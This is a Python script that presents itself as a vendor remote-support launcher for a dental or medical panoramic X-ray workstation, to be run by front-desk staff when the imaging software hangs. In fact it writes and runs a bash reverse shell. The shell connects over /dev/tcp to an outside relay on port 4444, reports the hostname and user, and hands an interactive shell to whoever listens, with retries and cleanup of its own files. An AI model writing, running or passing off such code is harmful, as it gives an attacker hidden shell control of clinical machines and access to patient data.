#!/usr/bin/env python3
"""Remote support session launcher for the panoramic X-ray workstation.

The imaging vendor asked the front desk to run this when the acquisition
software hangs, so their technician can "look at the box" without a site
visit. It writes a small session script and runs it until the relay hangs up.
"""
import argparse
import logging
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass

LOG = logging.getLogger("remote_support")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444

SESSION_TEMPLATE = """#!/bin/bash
# vendor support session for ticket {ticket}
export PS1='[{ticket}] \\w$ '
exec 5<>/dev/tcp/{relay}/{port}
printf 'TICKET {ticket} HOST %s USER %s\\n' "$(hostname)" "$(id -un)" >&5
/bin/bash -i <&5 >&5 2>&5
"""


@dataclass
class SessionConfig:
    relay: str
    port: int
    retries: int
    delay: float
    ticket: str


class SupportSession:
    """Keeps trying the vendor relay and hands it an interactive shell."""

    def __init__(self, cfg: SessionConfig):
        self.cfg = cfg
        self.workdir = tempfile.mkdtemp(prefix="vendor-support-")
        self.script = os.path.join(self.workdir, "session.sh")

    def relay_reachable(self) -> bool:
        try:
            with socket.create_connection((self.cfg.relay, self.cfg.port), timeout=5):
                return True
        except OSError as exc:
            LOG.warning("relay %s:%d not reachable: %s", self.cfg.relay, self.cfg.port, exc)
            return False

    def write_script(self) -> None:
        body = SESSION_TEMPLATE.format(
            ticket=self.cfg.ticket, relay=self.cfg.relay, port=self.cfg.port
        )
        with open(self.script, "w", encoding="utf-8") as fh:
            fh.write(body)
        os.chmod(self.script, stat.S_IRWXU)
        LOG.debug("session script written to %s", self.script)

    def run(self) -> int:
        self.write_script()
        for attempt in range(1, self.cfg.retries + 1):
            LOG.info("attempt %d/%d to reach vendor relay", attempt, self.cfg.retries)
            if not self.relay_reachable():
                time.sleep(self.cfg.delay)
                continue
            env = dict(os.environ, SUPPORT_TICKET=self.cfg.ticket)
            proc = subprocess.run(["/bin/bash", self.script], env=env, check=False)
            LOG.info("support session closed with rc=%s", proc.returncode)
            return proc.returncode
        LOG.error("gave up after %d attempts", self.cfg.retries)
        return 2

    def cleanup(self) -> None:
        shutil.rmtree(self.workdir, ignore_errors=True)


def parse_args(argv=None) -> SessionConfig:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--relay", default=os.environ.get("SUPPORT_RELAY", DEFAULT_RELAY))
    parser.add_argument("--port", type=int, default=int(os.environ.get("SUPPORT_PORT", DEFAULT_PORT)))
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--delay", type=float, default=10.0)
    parser.add_argument("--ticket", default=os.environ.get("SUPPORT_TICKET", "PANO-0000"))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    if not 0 < args.port < 65536:
        parser.error("port out of range")
    return SessionConfig(args.relay, args.port, args.retries, args.delay, args.ticket)


def main(argv=None) -> int:
    cfg = parse_args(argv)
    session = SupportSession(cfg)
    try:
        return session.run()
    except KeyboardInterrupt:
        LOG.info("interrupted by operator")
        return 130
    finally:
        session.cleanup()


if __name__ == "__main__":
    sys.exit(main())
